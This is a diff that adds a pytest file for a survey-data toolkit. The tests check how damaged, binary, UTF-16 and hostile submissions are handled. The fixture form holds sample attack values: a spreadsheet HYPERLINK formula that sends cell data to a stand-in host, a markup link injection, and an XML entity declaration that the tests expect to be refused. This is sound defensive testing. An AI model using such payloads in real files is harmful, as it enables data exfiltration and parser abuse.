@@ -1,0 +1,140 @@
+"""Damaged and hostile submissions across commands: unreadable files are findings, answers are printed as they
+are (never as rich markup), and answers that would run as spreadsheet formulas are written as text."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from tests.conftest import write_md_form
+from toolkit import ingest
+from toolkit.cli import app
+from toolkit.validate import validate
+from toolkit.xform import load_form
+
+runner = CliRunner()
+
+FORM = """
+| survey |
+| | type | name | label | constraint | choice_filter |
+| | text | name | Name | | |
+| | integer | age | Age | . >= 0 and . <= 110 | |
+| | decimal | debt | Debt | | |
+| | select_one yn | ok | OK? | | |
+| choices |
+| | list_name | name | label |
+| | yn | 1 | =HYPERLINK("http://x.example/?"&A1,"Yes") |
+| | yn | 2 | [link=http://x.example]No[/link] |
+| settings |
+| | form_id |
+| | hz |
+"""
+
+
+def _instance(uid: str, name: str = "Aida", age: str = "30", debt: str = "-5.5") -> bytes:
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?><data id="hz"><name>{name}</name><age>{age}</age>'
+        f"<debt>{debt}</debt><ok>1</ok><meta><instanceID>{uid}</instanceID></meta></data>"
+    ).encode()
+
+
+def _folder(root: Path, files: dict[str, bytes]) -> Path:
+    for name, data in files.items():
+        (root / name).mkdir(parents=True, exist_ok=True)
+        (root / name / "submission.xml").write_bytes(data)
+    return root
+
+
+@pytest.fixture
+def form_path(tmp_path: Path) -> Path:
+    return write_md_form(tmp_path, FORM)
+
+
+# ---- item 3: a submission that cannot be read is a finding, never "valid" ----------------------------------------
+
+TRUNCATED = _instance("uuid:cut")[:-40]
+
+
+@pytest.mark.parametrize("method", ["auto", "columns", "instances"])
+def test_a_truncated_submission_makes_validate_fail(tmp_path: Path, form_path: Path, method: str) -> None:
+    subs = _folder(tmp_path / "in", {"good": _instance("uuid:good"), "cut": TRUNCATED})
+    result = validate(subs, form_path, method=method)
+    assert not result.valid
+    (finding,) = [f for f in result.findings if f.code == "instance_unreadable"]
+    assert finding.source is not None and finding.source.endswith("submission.xml") and "cut" in finding.source
+    assert result.stats["by_code"]["instance_unreadable"] == 1
+
+
+def test_validate_cli_reports_the_unreadable_file_in_json_csv_and_report(tmp_path: Path, form_path: Path) -> None:
+    subs = _folder(tmp_path / "in", {"good": _instance("uuid:good"), "cut": TRUNCATED})
+    args = ["validate", str(subs), "--form", str(form_path), "--csv", str(tmp_path / "f.csv")]
+    done = runner.invoke(app, [*args, "--report", str(tmp_path / "r.html"), "--json"])
+    assert done.exit_code == 1, done.output
+    payload = json.loads(done.stdout)
+    assert payload["valid"] is False
+    assert [f["code"] for f in payload["findings"]] == ["instance_unreadable"]
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "f.csv").read_text(encoding="utf-8-sig"))))
+    assert [r["code"] for r in rows] == ["instance_unreadable"] and "cut" in rows[0]["source"]
+    assert "instance_unreadable" in (tmp_path / "r.html").read_text(encoding="utf-8")
+    plain = runner.invoke(app, args)
+    assert plain.exit_code == 1 and "valid," not in plain.stdout and "findings" in plain.stdout
+
+
+@pytest.mark.parametrize(
+    ("data", "hint"),
+    [
+        (b"", "empty"),
+        (b"   \n", "empty"),
+        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not XML text"),
+        (b"PK\x03\x04\x14\x00\x00\x00", "not XML text"),
+        ("\ufeff<data>".encode("utf-16-le")[:-1], "UTF-16"),  # an odd number of bytes
+    ],
+    ids=["empty", "blank", "png", "zip", "broken-utf16"],
+)
+def test_ingest_reports_empty_and_binary_submission_files(
+    tmp_path: Path, form_path: Path, data: bytes, hint: str
+) -> None:
+    subs = _folder(tmp_path / "in", {"good": _instance("uuid:good"), "bad": data})
+    result = ingest.ingest([subs], load_form(form_path))
+    (issue,) = [i for i in result.issues if i.code == "input.unreadable"]
+    assert issue.location.file == str(subs / "bad" / "submission.xml")
+    assert hint in issue.message and ("again" in issue.message)
+    assert len(result.tables["hz"]) == 1
+    # validate, on either path, reports it as a finding too
+    for method in ("columns", "instances"):
+        checked = validate(subs, form_path, method=method)
+        assert [f.code for f in checked.findings] == ["instance_unreadable"], method
+
+
+@pytest.mark.parametrize(
+    "encode",
+    [
+        lambda text: text.encode("utf-16"),  # with a byte-order mark (Windows "Unicode")
+        lambda text: text.encode("utf-16-le"),  # no mark: the declaration tells
+        lambda text: text.encode("utf-16-be"),
+        lambda text: b"\xef\xbb\xbf" + text.encode("utf-8"),
+    ],
+    ids=["utf16-bom", "utf16le-declared", "utf16be-declared", "utf8-bom"],
+)
+def test_utf16_submissions_are_read_like_utf8(tmp_path: Path, form_path: Path, encode) -> None:
+    text = _instance("uuid:u16", name="Зарина").decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
+    subs = _folder(tmp_path / "in", {"a": _instance("uuid:a"), "u16": encode(text)})
+    result = ingest.ingest([subs], load_form(form_path))
+    assert not [i for i in result.issues if i.severity == "error"], result.issues
+    frame = result.tables["hz"].set_index("KEY")
+    assert frame.loc["uuid:u16", "name"] == "Зарина" and frame.loc["uuid:u16", "age"] == 30
+    for method in ("columns", "instances"):
+        assert validate(subs, form_path, method=method).valid, method
+
+
+def test_an_entity_hidden_in_utf16_is_still_refused(tmp_path: Path, form_path: Path) -> None:
+    bomb = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY a "aaaa">]><data id="hz">&a;</data>'
+    subs = _folder(tmp_path / "in", {"a": _instance("uuid:a"), "bomb": bomb.encode("utf-16")})
+    result = ingest.ingest([subs], load_form(form_path))
+    assert [i.code for i in result.issues] == ["input.unreadable"] and "DOCTYPE" in result.issues[0].message
+    assert validate(subs, form_path, method="instances").findings[0].code == "instance_unreadable"
